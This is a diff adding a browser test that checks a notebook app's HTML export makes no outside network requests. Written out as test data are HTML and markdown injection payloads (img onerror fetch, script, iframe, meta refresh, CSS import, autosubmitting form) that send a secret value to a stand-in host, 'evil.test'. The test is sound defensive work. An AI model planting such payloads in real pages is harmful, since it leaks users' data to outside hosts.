@@ -209,3 +209,69 @@ describe('exported pages, for everybody', () => {
     });
   }
 });
+
+describe('an exported page with hostile words', () => {
+  const evil = 'http://evil.test';
+  const stolen = '4711-secret';
+  let notebook: NotebookPage;
+
+  before(async () => {
+    notebook = await openNotebook();
+  });
+  after(() => notebook.close());
+
+  /** Places that a page may ask for something by itself. */
+  const asking: readonly string[] = [
+    `![words](${evil}/image?t={{ s.total }})`,
+    `![{{ s.total }}][reference]\n\n[reference]: ${evil}/reference`,
+    `<img src="${evil}/element?t={{ s.total }}" onerror="fetch('${evil}/handler')">`,
+    `<script src="${evil}/script"></script><link rel="stylesheet" href="${evil}/sheet">`,
+    `<iframe src="${evil}/frame"></iframe><video src="${evil}/video" autoplay></video>`,
+    `<meta http-equiv="refresh" content="0; url=${evil}/refresh"><base href="${evil}/base/">`,
+    `<style>@import "${evil}/import"; body { background: url(${evil}/background) }</style>`,
+    `<form action="${evil}/form"><input autofocus onfocus="this.form.submit()"></form>`,
+    `<svg><image href="${evil}/svg" /></svg><object data="${evil}/object"></object>`,
+  ];
+
+  /** A page whose results have a value that its words want to send. */
+  function exported(): string {
+    const [{ result: shown }] = cellResults as [(typeof cellResults)[number]];
+    const [column] = shown.columns;
+    assert.ok(column);
+    const result = { ...shown, columns: [{ ...column, name: 'total' }], firstRows: [[stolen]] };
+    const words = asking.map((value): Parameters<typeof exportHtml>[1][number] => {
+      return { kind: 'markdown', title: '', value: `{{ s.total }} ${value}`, results: [] };
+    });
+    const query = { kind: 'query', title: 's', value: 'select 1', results: [{ result }] } as const;
+    return exportHtml(`</title><img src="${evil}/title">`, [query, ...words]);
+  }
+
+  const policy = /<meta http-equiv="Content-Security-Policy"[^>]*>/;
+  const pages: readonly (readonly [what: string, html: () => string])[] = [
+    ['asks for nothing when it is opened', exported],
+    ['asks for nothing by its markup, without its policy', () => exported().replace(policy, '')],
+  ];
+  for (const [what, html] of pages) {
+    it(what, async () => {
+      const { page } = notebook;
+      const asked: string[] = [];
+      const address = 'http://exported.test/page.html';
+      const note = (request: { url(): string }): void => void asked.push(request.url());
+      await page.route('**', (route) =>
+        route.request().url() === address
+          ? route.fulfill({ contentType: 'text/html', body: html() })
+          : route.abort(),
+      );
+      page.on('request', note);
+      try {
+        await page.goto(address, { waitUntil: 'networkidle' });
+        await page.getByText(stolen).nth(asking.length).waitFor();
+        assert.deepEqual(asked, [address]);
+        assert.equal(page.url(), address);
+      } finally {
+        page.off('request', note);
+        await page.unroute('**');
+      }
+    });
+  }
+});
